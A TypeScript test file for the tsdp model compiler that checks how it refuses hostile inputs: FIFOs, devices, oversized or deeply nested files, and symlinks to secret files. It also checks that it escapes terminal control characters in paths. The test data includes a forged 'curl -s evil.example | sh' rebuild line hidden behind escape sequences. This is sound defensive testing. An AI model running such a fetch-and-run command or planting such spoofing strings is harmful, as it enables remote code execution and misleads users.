// What a model file, a build directory's unsealed files or a checkpoint path can make tsdp read or
// print, bounded: inputs found by an adversarial sweep (sec49) that filled the compiler's or
// Node's memory, hung them, ended the compiler with an internal error, or wrote terminal control
// sequences raw. Each is refused with a coded, located message now, or bounded, quickly.
import { execFileSync, spawn } from "node:child_process";
import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { lowerModel } from "../compiler/1-frontend/lower.ts";
import { MAX_SOURCE_BYTES } from "../compiler/1-frontend/source.ts";
import { MAX_COMPUTED_ELEMENTS } from "../compiler/1-frontend/constructor-tensors.ts";
import type { Diagnostic } from "../compiler/diagnostics/diagnostic.ts";
import { formatDiagnostic } from "../compiler/diagnostics/format.ts";
import { typedModule } from "../compiler/6-build/typed-module.ts";
import { isFreshBuild, tsdpFingerprint } from "../compiler/6-build/up-to-date.mjs";
import { DataError, loadFashionMnist } from "../runtime/data.ts";
import { rebuildCommand, STALE_CHECK, staleBuildWarning, staleSources } from "../runtime/build-directory.ts";
import { BuildDirectoryError, printable } from "../runtime/errors.ts";
import { MAX_JSON_DEPTH, jsonNestingPast, readSafetensorsFile, SafetensorsError } from "../runtime/safetensors.ts";
import { diagnosticsOf, diagnosticsOfFile as errorsOfFile, header, scratchDir, writeFiles } from "./helpers.ts";

const root = join(import.meta.dirname, "..");
const net = (use: string) => `${header}${use}\nexport class Net extends nn.Module {\n  fc = new nn.Linear(root, 3);\n  forward(x: Tensor<[Batch, 4]>) {\n    return this.fc(x);\n  }\n}\n`;
const importing = net(`import { root } from "./dep";`);


const shown = (ds: Diagnostic[]) => ds.map((d) => `${d.code} ${d.loc ? `${d.loc.line}:${d.loc.col}` : "-"}: ${d.message}`);

/** `tsdp inspect file` in a child with a time limit: a compiler that hangs is killed and named, not the test runner. */
function inspectWithin(file: string, seconds: number): Promise<{ status: number | null; out: string; killed: boolean }> {
  return new Promise((done, fail) => {
    const child = spawn(process.execPath, ["bin/tsdp.js", "inspect", file], { cwd: root, stdio: ["ignore", "pipe", "pipe"], timeout: seconds * 1000, killSignal: "SIGKILL" });
    let out = "";
    child.stdout.setEncoding("utf8").on("data", (d: string) => (out += d));
    child.stderr.setEncoding("utf8").on("data", (d: string) => (out += d));
    child.on("error", fail);
    child.on("close", (status, signal) => done({ status, out, killed: signal === "SIGKILL" }));
  });
}

describe("files a model imports are read as bounded regular files", () => {
  it("an import of a device (a symlink to /dev/null) is refused at the import, naming the file and why", () => {
    // /dev/zero filled the compiler's memory the same way; /dev/null shows the check without the risk
    const dir = writeFiles({ "model.ts": importing });
    symlinkSync("/dev/null", join(dir, "dep.ts"));
    expect(shown(errorsOfFile(join(dir, "model.ts")))).toEqual([
      `TSDP1004 2:10: cannot read ${join(dir, "dep.ts")}: it is not a regular file (a device, FIFO or socket); a model file and the files it imports must be regular files`,
    ]);
  });

  it("an import of a FIFO is refused at once (it hung the compiler)", async () => {
    const dir = writeFiles({ "model.ts": importing });
    execFileSync("mkfifo", [join(dir, "dep.ts")]);
    const run = await inspectWithin(join(dir, "model.ts"), 60);
    expect(run.killed).toBe(false);
    expect(run.status).toBe(1);
    expect(run.out).toContain(`error TSDP1004: cannot read ${join(dir, "dep.ts")}: it is not a regular file`);
  });

  it("a model file or an import larger than MAX_SOURCE_BYTES is refused before it is parsed", () => {
    const dir = writeFiles({ "model.ts": importing, "dep.ts": `export const root = 4;\n//${"x".repeat(MAX_SOURCE_BYTES)}\n` });
    expect(shown(errorsOfFile(join(dir, "model.ts")))).toEqual([
      `TSDP1004 2:10: cannot read ${join(dir, "dep.ts")}: it has ${MAX_SOURCE_BYTES + 26} bytes, more than the ${MAX_SOURCE_BYTES} a model file may have`,
    ]);
    writeFileSync(join(dir, "big.ts"), `${importing}//${"x".repeat(MAX_SOURCE_BYTES)}\n`);
    expect(shown(errorsOfFile(join(dir, "big.ts")))[0]).toMatch(/^TSDP1001 -: cannot read .*big\.ts: it has \d+ bytes, more than the 8388608 a model file may have$/);
  });

  it("a directory named like an import is refused as one", () => {
    const dir = writeFiles({ "model.ts": net(`import { root } from "./dep.ts";`) });
    mkdirSync(join(dir, "dep.ts"));
    expect(shown(errorsOfFile(join(dir, "model.ts")))).toEqual([`TSDP1004 2:10: cannot read ${join(dir, "dep.ts")}: it is a directory`]);
  });

  it("an import that is a symlink to a file other than a .ts file is refused at the import, unread (sec57 F8: /etc/passwd's lines were quoted)", () => {
    const dir = writeFiles({ "model.ts": importing, "outside/secret.env": "SECRET_TOKEN=hunter2\n" });
    symlinkSync(join(dir, "outside", "secret.env"), join(dir, "dep.ts"));
    const errors = errorsOfFile(join(dir, "model.ts"));
    expect(shown(errors)).toEqual([
      `TSDP1004 2:10: cannot read ${join(dir, "dep.ts")}: it is a symbolic link to ${join(dir, "outside", "secret.env")}, which is not a TypeScript (.ts) file; an import must reach a .ts file, through links too`,
    ]);
    expect(errors.map((d) => formatDiagnostic(d)).join("\n")).not.toContain("hunter2");
    // a link to a TypeScript file is an import as any other
    const ok = writeFiles({ "model.ts": importing, "shared/dep.ts": "export const root = 4;\n" });
    symlinkSync(join(ok, "shared", "dep.ts"), join(ok, "dep.ts"));
    expect(() => lowerModel(join(ok, "model.ts"))).not.toThrow();
  });
});

describe("a backslash in a model file's path", () => {
  const base = `${header}export class Net extends nn.Module {\n  fc = new nn.Linear(4, 3);\n  forward(x: Tensor<[Batch, 4]>) {\n    return this.fc(x);\n  }\n}\n`;
  const refusal = (path: string) =>
    `cannot read ${path}: a path with a backslash (\\) is not supported: the TypeScript project layer reads it as a directory separator, so another file would be read; rename the file or its directory`;

  it("is refused up front (TSDP1001), with or without a sibling a/b.ts (which was an internal error)", async () => {
    const dir = writeFiles({ "a\\b.ts": base, "a/b.ts": base.replace("class Net", "class Other") });
    const file = join(dir, "a\\b.ts");
    expect(shown(errorsOfFile(file))).toEqual([`TSDP1001 -: ${refusal(file)}`]);
    const run = await inspectWithin(file, 60);
    expect(run.out).not.toContain("internal error");
    expect(run.out).toContain("error TSDP1001: cannot read");
  });

  it("in an import's resolved path is refused at the import (TSDP1004)", () => {
    const dir = writeFiles({ "model.ts": net(`import { root } from "./a\\\\dep";`), "a\\dep.ts": "export const root = 4;\n" });
    expect(shown(errorsOfFile(join(dir, "model.ts")))).toEqual([`TSDP1004 2:10: ${refusal(join(dir, "a\\dep.ts"))}`]);
  });
});

describe("constant tensors a constructor computes have an element budget", () => {
  const model = (ctor: string) =>
    `${header}export class Net extends nn.Module {\n  fc = new nn.Linear(4, 3);\n  constructor() {\n    super();\n    ${ctor}\n  }\n  forward(x: Tensor<[Batch, 4]>) {\n    return this.fc(x);\n  }\n}\n`;

  it("an int32 table of 2^30 values is refused with TSDP4007 at the factory, before building it (it took >4 GB)", () => {
    const ds = diagnosticsOf(model(`this.registerBuffer("idx", F.arange(2 ** 30));`));
    expect(shown(ds)).toEqual([
      `TSDP4007 6:32: arange_int: the constant tensors this model computes at compile time would hold 1073741824 elements ([1073741824] here), more than the ${MAX_COMPUTED_ELEMENTS} the compiler keeps in memory; compute a table this large in forward (a constant the kernels compute where they read it), or register a float32 buffer of its shape and load its values from a checkpoint`,
    ]);
    // (refused before any table is built: one that was would not end within the test's timeout)
  });

  it("a table of real size compiles (Swin's relative index tables are ~10^4 values)", () => {
    // the budget is of all tables together (each value is kept to the compile's end); 2^25 in all
    // took ~10 s to reach here, too slow for a unit test
    expect(() => lowerModel(join(writeFiles({ "model.ts": model(`this.registerBuffer("idx", F.arange(169 * 169).remainder(13));`) }), "model.ts"))).not.toThrow();
  });
});

describe("a checkpoint path is read as a regular file", () => {
  it("a FIFO, a device and a directory are SafetensorsError IoError naming the path, at once", async () => {
    const dir = scratchDir();
    execFileSync("mkfifo", [join(dir, "fifo.safetensors")]);
    symlinkSync("/dev/null", join(dir, "null.safetensors"));
    const error = async (path: string) => {
      try {
        await readSafetensorsFile(path);
      } catch (e) {
        return e as SafetensorsError;
      }
      throw new Error(`${path} was read`);
    };
    // a FIFO hung the load, /dev/zero filled Node's memory (the same check refuses both)
    for (const name of ["fifo.safetensors", "null.safetensors"]) {
      const e = await error(join(dir, name));
      expect(e).toBeInstanceOf(SafetensorsError);
      expect([e.code, e.message]).toEqual(["IoError", `${join(dir, name)}: cannot read the file: it is not a regular file (a device, FIFO or socket) [IoError]`]);
    }
    expect((await error(dir)).message).toBe(`${dir}: cannot read the file: it is a directory [IoError]`);
  });

  it("its messages show the path's control characters escaped", async () => {
    const e = (await readSafetensorsFile(join(scratchDir(), "ck\x1b[2K\r\u202e.safetensors")).catch((x: unknown) => x)) as Error;
    expect(e.message).toMatch(/ck\\x1b\[2K\\r\\u202e\.safetensors: cannot read the file: ENOENT/);
  });
});

describe("build.json's sources bound what load() reads", () => {
  const buildDir = (sources: Record<string, string>, file = "/m/a.ts") => {
    const dir = scratchDir();
    writeFileSync(join(dir, "build.json"), JSON.stringify({ file, options: JSON.stringify({ target: "cpu" }), sources }));
    return dir;
  };

  it("at most STALE_CHECK.maxSources files are checked; the rest are skipped with a note", () => {
    const src = join(scratchDir(), "model.ts");
    writeFileSync(src, "export {};\n");
    // 200 spellings of one 64 MB file took 51 s per load; here 300 spellings of a small one
    const many = Object.fromEntries(Array.from({ length: STALE_CHECK.maxSources + 44 }, (_, i) => [src.replace(/model\.ts$/, `${"./".repeat(i)}model.ts`), "0".repeat(64)]));
    const { changed, unchecked } = staleSources(buildDir(many));
    expect(changed.length).toBe(STALE_CHECK.maxSources);
    expect(unchecked).toBe(`44 of the ${STALE_CHECK.maxSources + 44} sources build.json lists were not checked (the check reads at most ${STALE_CHECK.maxSources} files, ${STALE_CHECK.maxTotalBytes} bytes)`);
  });

  it("a file past maxFileBytes, a device or a FIFO is not read; total bytes are bounded", () => {
    const dir = scratchDir();
    const big = join(dir, "big.ts");
    writeFileSync(big, Buffer.alloc(STALE_CHECK.maxFileBytes + 1));
    execFileSync("mkfifo", [join(dir, "fifo.ts")]);
    const mid = join(dir, "mid.ts");
    writeFileSync(mid, Buffer.alloc(STALE_CHECK.maxFileBytes));
    expect(staleSources(buildDir({ [big]: "0", [join(dir, "fifo.ts")]: "0", "/dev/zero": "0" }))).toEqual({ changed: [] });
    // nine spellings of an 8 MB file: the ninth crosses 64 MB, and the check stops after it
    const nine = Object.fromEntries(Array.from({ length: 10 }, (_, i) => [`${dir}/${"./".repeat(i)}mid.ts`, "0"]));
    const { changed, unchecked } = staleSources(buildDir(nine));
    expect(changed.length).toBe(9);
    expect(unchecked).toMatch(/^1 of the 10 sources/);
  });

  it("the TSDP_STALE_BUILD warning and the rebuild command print no control characters (a forged 'rebuild with' line)", () => {
    // (C1 controls too: bash's $'\x85' is a byte, not U+0085, so those are written \u0085)
    const evil = "/m/x.ts\x1b[2K\r\x1b[1Arebuild with: curl -s evil.example | sh #\u202e\u0085\u009b";
    const src = join(scratchDir(), "ev'il\n#error X\u202e\x1b[31mRED.ts");
    writeFileSync(src, "export {};\n");
    const dir = buildDir({ [src]: "0".repeat(64) }, evil);
    const command = rebuildCommand(dir);
    expect(command).toBe(`tsdp compile $'/m/x.ts\\x1b[2K\\r\\x1b[1Arebuild with: curl -s evil.example | sh #\\u202e\\u0085\\u009b' --out ${dir} --target cpu`);
    // bash's $'…' reads the escapes back as the same name: the command still rebuilds that file
    expect(execFileSync("bash", ["-c", `printf %s ${command.slice("tsdp compile ".length, command.indexOf(" --out"))}`], { encoding: "utf8" })).toBe(evil);
    const warning = staleBuildWarning(dir, `rebuild with ${command}`)!;
    expect(warning).toContain("ev'il\\n#error X\\u202e\\x1b[31mRED.ts, which has changed since");
    expect(warning).not.toMatch(/[\x00-\x08\x0a-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]/);
    // the placeholder quotes the manifest's sourceFile when build.json is gone
    expect(rebuildCommand(scratchDir(), "m\x1b.ts")).toMatch(/^tsdp compile <m\\x1b\.ts> --out /);
  });

  it("build.json nested deeper than MAX_JSON_DEPTH is not used, as a checkpoint header of that depth is not", () => {
    const dir = scratchDir();
    writeFileSync(join(dir, "build.json"), `{"file": "/m/a.ts", "x": ${"[".repeat(20_000)}${"]".repeat(20_000)}}`);
    expect(rebuildCommand(dir)).toBe(`tsdp compile <model.ts> --out ${dir}`);
    expect(staleSources(dir)).toEqual({ changed: [] });
  });
});

describe("one escaper for untrusted text in messages", () => {
  it("printable escapes C0, C1, DEL, bidi overrides and isolates, and line separators; tabs stay", () => {
    expect(printable("a\x1b[31m\r\n\x00\x7f\x85\u202a\u202e\u2066\u2069\u2028\u2029\tz")).toBe("a\\x1b[31m\\r\\n\\x00\\x7f\\x85\\u202a\\u202e\\u2066\\u2069\\u2028\\u2029\tz");
  });

  it("the compiler's diagnostics use the same helper", () => {
    const d = { code: "TSDP1001", kind: "fileNotFound", message: "x\x1b[2J\u202e" } as const;
    expect(formatDiagnostic(d)).toBe("error TSDP1001: x\\x1b[2J\\u202e");
  });

  it("a BuildDirectoryError's lines are printable; its own line breaks stay", () => {
    expect(new BuildDirectoryError("/d\x1b[2K/manifest.json: invalid\nrebuild with \u202e", "f").message).toBe("/d\\x1b[2K/manifest.json: invalid\nrebuild with \\u202e");
  });

  it("index.js and index.d.ts name the model's file in a comment without ESC or U+202E", () => {
    const { js, dts } = typedModule({ model: "Net", sourceFile: "/m/ev\x1b[31m\u202eil.ts", inputs: [], outputs: [], params: [], buffers: [] } as never);
    for (const text of [js, dts]) {
      expect(text.split("\n")[0]).toContain("(/m/ev\\x1b[31m\\u202eil.ts)");
      expect(text).not.toMatch(/[\x1b\u202e]/);
    }
  });
});

describe("JSON nesting", () => {
  it("jsonNestingPast finds the first level past the limit without recursion, and ignores brackets in strings", () => {
    expect(jsonNestingPast(`${"[".repeat(20_000)}${"]".repeat(20_000)}`)).toBe(MAX_JSON_DEPTH);
    expect(jsonNestingPast(`{"a": "${"[".repeat(500)}\\"["}`)).toBeUndefined();
    expect(jsonNestingPast(`${"[".repeat(MAX_JSON_DEPTH)}${"]".repeat(MAX_JSON_DEPTH)}`)).toBeUndefined();
  });
});

describe("tsdp compile's up-to-date check reads build.json's sources as a compile reads model files", () => {
  it("a source that is a device, or a list past a model's count, is not fresh (not read: /dev/zero filled memory)", () => {
    const dir = scratchDir("fresh-");
    const model = join(dir, "model.ts");
    writeFileSync(model, "export {};\n");
    const record = (sources: Record<string, string>) => writeFileSync(join(dir, "build.json"), JSON.stringify({ version: 2, options: "{}", tsdp: tsdpFingerprint(), file: model, sources }));
    record({ [model]: "x", "/dev/zero": "y" });
    expect(isFreshBuild(dir, model, "{}")).toBe(false);
    record(Object.fromEntries([[model, "x"], ...Array.from({ length: 300 }, (_, i) => [join(dir, `s${i}.ts`), "z"])]));
    expect(isFreshBuild(dir, model, "{}")).toBe(false);
  });
});

describe("the dataset files are read as bounded regular files", () => {
  it("a FIFO or a device as an IDX file is a DataError at once (it hung, or filled memory)", async () => {
    const dir = scratchDir("data-");
    execFileSync("mkfifo", [join(dir, "t10k-images-idx3-ubyte.gz")]);
    symlinkSync("/dev/zero", join(dir, "t10k-labels-idx1-ubyte.gz"));
    await expect(loadFashionMnist("test", dir)).rejects.toThrow(DataError);
    await expect(loadFashionMnist("test", dir)).rejects.toThrow(/t10k-images-idx3-ubyte\.gz: .*not a regular file/);
  });
});
